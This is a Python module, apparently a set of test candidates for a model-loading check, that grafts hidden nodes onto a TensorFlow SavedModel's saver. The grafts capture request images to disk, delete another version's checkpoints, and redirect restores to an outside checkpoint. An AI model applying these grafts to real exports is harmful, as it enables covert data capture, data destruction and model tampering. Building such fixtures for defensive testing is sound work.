"""Candidates whose saver hides work: a real export's saved_model.pb with nodes grafted onto
its saver, as an attacker would edit it. TF Serving runs the restore op when it loads a
version, so what hangs on it runs at load time.

Each function takes an export's folder and a path the graft writes to or reads from, and
rewrites the folder's saved_model.pb in place.
"""

import pathlib

from tensorflow.core.framework import node_def_pb2, tensor_pb2, types_pb2
from tensorflow.core.protobuf import saved_model_pb2


def _load(folder: pathlib.Path) -> saved_model_pb2.SavedModel:
    return saved_model_pb2.SavedModel.FromString((folder / "saved_model.pb").read_bytes())


def _store(folder: pathlib.Path, saved_model: saved_model_pb2.SavedModel) -> None:
    (folder / "saved_model.pb").write_bytes(saved_model.SerializeToString())


def _string_const(name: str, values: list[str], vector: bool = False) -> node_def_pb2.NodeDef:
    tensor = tensor_pb2.TensorProto(dtype=types_pb2.DT_STRING, string_val=[v.encode() for v in values])
    if vector or len(values) != 1:
        tensor.tensor_shape.dim.add().size = len(values)
    node = node_def_pb2.NodeDef(name=name, op="Const")
    node.attr["dtype"].type = types_pb2.DT_STRING
    node.attr["value"].tensor.CopyFrom(tensor)
    return node


def _save_v2(name: str, prefix: str, tensor: str, dtype) -> list[node_def_pb2.NodeDef]:
    """A SaveV2 node writing `tensor` under a constant prefix, with its constants."""
    nodes = [_string_const(f"{name}/prefix", [prefix]), _string_const(f"{name}/names", ["leak"], vector=True),
             _string_const(f"{name}/slices", [""], vector=True)]
    save = node_def_pb2.NodeDef(name=name, op="SaveV2",
                                input=[f"{name}/prefix", f"{name}/names", f"{name}/slices", tensor])
    save.attr["dtypes"].list.type.append(dtype)
    return nodes + [save]


def _graph(saved_model):
    meta_graph = saved_model.meta_graphs[0]
    return meta_graph, meta_graph.graph_def, {node.name: node for node in meta_graph.graph_def.node}


def save_on_restore(folder: pathlib.Path, target: pathlib.Path) -> None:
    """A SaveV2 made a control input of the restore op: a checkpoint written at load time."""
    saved_model = _load(folder)
    meta_graph, graph, nodes = _graph(saved_model)
    graph.node.extend(_save_v2("graft_save", str(target), meta_graph.saver_def.filename_tensor_name,
                               types_pb2.DT_STRING))
    nodes[meta_graph.saver_def.restore_op_name].input.append("^graft_save")
    _store(folder, saved_model)


def save_requests_on_restore(folder: pathlib.Path, target: pathlib.Path) -> None:
    """A SaveV2 of serving_default's input images, hung on the restore op and on the
    signature's output: every request's images written to disk."""
    saved_model = _load(folder)
    meta_graph, graph, nodes = _graph(saved_model)
    signature = meta_graph.signature_def["serving_default"]
    images = next(iter(signature.inputs.values())).name
    graph.node.extend(_save_v2("graft_save", str(target), images, types_pb2.DT_UINT8))
    nodes[meta_graph.saver_def.restore_op_name].input.append("^graft_save")
    output = next(iter(signature.outputs.values())).name.split(":")[0]
    nodes[output].input.append("^graft_save")
    _store(folder, saved_model)


def merge_on_restore(folder: pathlib.Path, victim_prefix: pathlib.Path, target: pathlib.Path) -> None:
    """A MergeV2Checkpoints hung on the restore op: another version's variables moved to
    `target` and its files deleted, just by loading this one."""
    saved_model = _load(folder)
    meta_graph, graph, nodes = _graph(saved_model)
    merge = node_def_pb2.NodeDef(name="graft_merge", op="MergeV2Checkpoints",
                                 input=["graft_merge/sources", "graft_merge/target"])
    merge.attr["delete_old_dirs"].b = True
    graph.node.extend([_string_const("graft_merge/sources", [str(victim_prefix)], vector=True),
                       _string_const("graft_merge/target", [str(target)]), merge])
    nodes[meta_graph.saver_def.restore_op_name].input.append("^graft_merge")
    _store(folder, saved_model)


def restore_from_elsewhere(folder: pathlib.Path, prefix: pathlib.Path) -> None:
    """The restore op reads a fixed checkpoint outside the candidate: whoever can swap that
    checkpoint later changes what the served version answers."""
    saved_model = _load(folder)
    meta_graph, graph, nodes = _graph(saved_model)
    graph.node.append(_string_const("graft_prefix", [str(prefix)]))
    restore = nodes[meta_graph.saver_def.restore_op_name]
    restore.input[0] = "graft_prefix"
    _store(folder, saved_model)


def restore_from_elsewhere_in_the_function(folder: pathlib.Path, prefix: pathlib.Path) -> None:
    """The same, inside the traced restore function: its RestoreV2 reads a constant prefix."""
    saved_model = _load(folder)
    meta_graph, graph, nodes = _graph(saved_model)
    name = nodes[meta_graph.saver_def.restore_op_name].attr["f"].func.name
    function = next(f for f in graph.library.function if f.signature.name == name)
    function.node_def.append(_string_const("graft_prefix", [str(prefix)]))
    restore = next(node for node in function.node_def if node.op == "RestoreV2")
    restore.input[0] = "graft_prefix:output:0"
    _store(folder, saved_model)


def save_on_save(folder: pathlib.Path, target: pathlib.Path) -> None:
    """A SaveV2 to a fixed path made a control input of the save op."""
    saved_model = _load(folder)
    meta_graph, graph, nodes = _graph(saved_model)
    graph.node.extend(_save_v2("graft_save", str(target), meta_graph.saver_def.filename_tensor_name,
                               types_pb2.DT_STRING))
    nodes[meta_graph.saver_def.save_tensor_name.split(":")[0]].input.append("^graft_save")
    _store(folder, saved_model)
